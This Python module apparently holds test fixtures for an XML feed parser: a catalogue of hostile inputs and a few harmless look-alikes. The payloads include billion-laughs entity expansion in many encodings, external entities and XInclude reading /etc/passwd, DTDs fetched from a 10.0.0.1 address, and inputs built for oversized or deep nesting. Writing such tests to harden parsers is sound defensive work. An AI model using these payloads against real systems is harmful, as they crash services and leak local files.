"""XML that is made to hurt whoever reads it, and harmless XML that looks a little like it."""

from __future__ import annotations

from collections.abc import Callable

Make = Callable[[], bytes]

_START = '<?xml version="1.0"?>\n'
_LAUGHS = (
    '<!DOCTYPE rss [\n<!ENTITY a0 "lol">\n'
    + "".join(f'<!ENTITY a{level + 1} "{f"&a{level};" * 10}">\n' for level in range(12))
    + "]>\n<rss><channel><title>&a12;</title></channel></rss>"
)
_BODY = "<rss><channel><title>&x;</title></channel></rss>"
_DEEP = 400_000
# As much as the door lets in.
_LARGE = 15 * 2**20 - 100


def _utf7(text: str) -> bytes:
    """In UTF-7 the markup can be written without one of its letters."""
    return text.replace("<", "+ADw-").replace("!", "+ACE-").replace("&", "+ACY-").encode("ascii")


BOMBS: dict[str, Make] = {
    "billion laughs": lambda: (_START + _LAUGHS).encode(),
    "billion laughs without a declaration": lambda: _LAUGHS.encode(),
    "billion laughs behind a mark": lambda: b"\xef\xbb\xbf" + (_START + _LAUGHS).encode(),
    "billion laughs in an attribute": lambda: _LAUGHS.replace("<title>&a12;</title>", '<title x="&a12;"/>').encode(),
    "billion laughs in UTF-16": lambda: _LAUGHS.encode("utf-16"),
    "billion laughs in UTF-16 LE without a mark": lambda: _LAUGHS.encode("utf-16-le"),
    "billion laughs in UTF-16 BE with a declaration": lambda: (
        '<?xml version="1.0" encoding="utf-16"?>' + _LAUGHS
    ).encode("utf-16-be"),
    "billion laughs in UTF-32": lambda: _LAUGHS.encode("utf-32"),
    "billion laughs in UTF-32 BE without a mark": lambda: _LAUGHS.encode("utf-32-be"),
    "billion laughs in UTF-7": lambda: b'<?xml version="1.0" encoding="utf-7"?>' + _utf7(_LAUGHS),
    "billion laughs in EBCDIC": lambda: ('<?xml version="1.0" encoding="cp037"?>' + _LAUGHS).encode("cp037"),
    "billion laughs in EBCDIC behind ASCII": lambda: (
        b'<?xml version="1.0" encoding="cp500"?>' + _LAUGHS.encode("cp500")
    ),
    "billion laughs split by zero bytes": lambda: (
        _LAUGHS.replace("ENTITY", "ENT\0ITY").replace("DOCTYPE", "DOC\0TYPE").encode()
    ),
    "billion laughs behind a comment": lambda: f"<!-- <rss> -->\n{_LAUGHS}".encode(),
    "billion laughs behind an instruction": lambda: f"<?note <rss> ?>\n{_LAUGHS}".encode(),
    "billion laughs behind blank lines": lambda: ("\n" * 5_000 + _LAUGHS).encode(),
    "quadratic blow-up": lambda: f'<!DOCTYPE rss [<!ENTITY x "{"y" * 100_000}">]><rss>{"&x;" * 10_000}</rss>'.encode(),
    "an entity that names itself": lambda: f'<!DOCTYPE rss [<!ENTITY x "&x;">]>{_BODY}'.encode(),
    "an external entity": lambda: f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>{_BODY}'.encode(),
    "an external entity by address": lambda: (
        f'<!DOCTYPE rss [<!ENTITY x PUBLIC "-//x" "http://10.0.0.1/">]>{_BODY}'.encode()
    ),
    "an unparsed entity": lambda: (
        f'<!DOCTYPE rss [<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "x.gif" NDATA n>]>{_BODY}'.encode()
    ),
    "a parameter entity": lambda: f"<!DOCTYPE rss [<!ENTITY % p \"<!ENTITY x 'y'>\">%p;]>{_BODY}".encode(),
    "an external parameter entity": lambda: (
        f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://10.0.0.1/x.dtd">%p;]>{_BODY}'.encode()
    ),
    "a declaration by address": lambda: f'<!DOCTYPE rss SYSTEM "http://10.0.0.1/x.dtd">{_BODY}'.encode(),
    "a declaration by name": lambda: f'<!DOCTYPE rss PUBLIC "-//x//y" "file:///etc/passwd">{_BODY}'.encode(),
    "a harmless declaration of attributes": lambda: (
        b'<!DOCTYPE rss [<!ATTLIST rss version CDATA "2.0">]><rss><channel/></rss>'
    ),
    "lower case": lambda: b'<!doctype rss [<!entity x "y">]><rss>&x;</rss>',
    "an inclusion": lambda: (
        b'<rss xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd" parse="text"/></rss>'
    ),
    "deep nesting": lambda: b"<rss>" + b"<a>" * _DEEP + b"</a>" * _DEEP + b"</rss>",
    "deep nesting without an end": lambda: b"<a>" * 5_000_000,
    "a flood of elements": lambda: b"<rss>" + b"<a/>" * 3_500_000 + b"</rss>",
    "a huge attribute": lambda: b'<rss a="' + b"y" * _LARGE + b'"/>',
    "a huge attribute that looks like text": lambda: b'<rss a=">' + b"y" * _LARGE + b'"/>',
    "a huge attribute behind wrong bytes": lambda: b'<rss><b>\xe9</b><c a="' + b"y" * _LARGE + b'"/>',
    "a huge attribute that looks like text behind wrong bytes": lambda: (
        b'<rss><b>\xe9</b><c a=">' + b"y" * _LARGE + b'"/>'
    ),
    "a huge attribute of wrong bytes": lambda: b'<rss><b c="' + b"\xe9" * _LARGE + b'"/>',
    "a huge attribute of wide letters": lambda: b'<rss><b c="' + "𝔸".encode() * (_LARGE // 4) + b'"/>',
    "a huge attribute in UTF-16": lambda: ('<rss><b c="' + "y" * (_LARGE // 2) + '"/>').encode("utf-16"),
    "a long name of a namespace": lambda: b'<rss xmlns:n="' + b"u" * 900_000 + b'">' + b"<n:a/>" * 100_000 + b"</rss>",
    "a long name of a namespace for attributes": lambda: (
        b'<rss xmlns:n="' + b"u" * 10_000 + b'">' + b'<a n:x="" n:y=""/>' * 400_000 + b"</rss>"
    ),
    "a huge name": lambda: b"<" + b"y" * _LARGE + b"/>",
    "a million attributes": lambda: b"<rss " + b" ".join(b'a%d=""' % number for number in range(1_000_000)) + b"/>",
    "a huge comment": lambda: b"<!--" + b"y" * _LARGE + b"--><rss/>",
    "a huge instruction": lambda: b"<?y " + b"y" * _LARGE + b"?><rss/>",
    "a tag without an end": lambda: b"<rss><a " + b"y " * (_LARGE // 2),
    "a million beginnings": lambda: b"<" * 900_000,
}
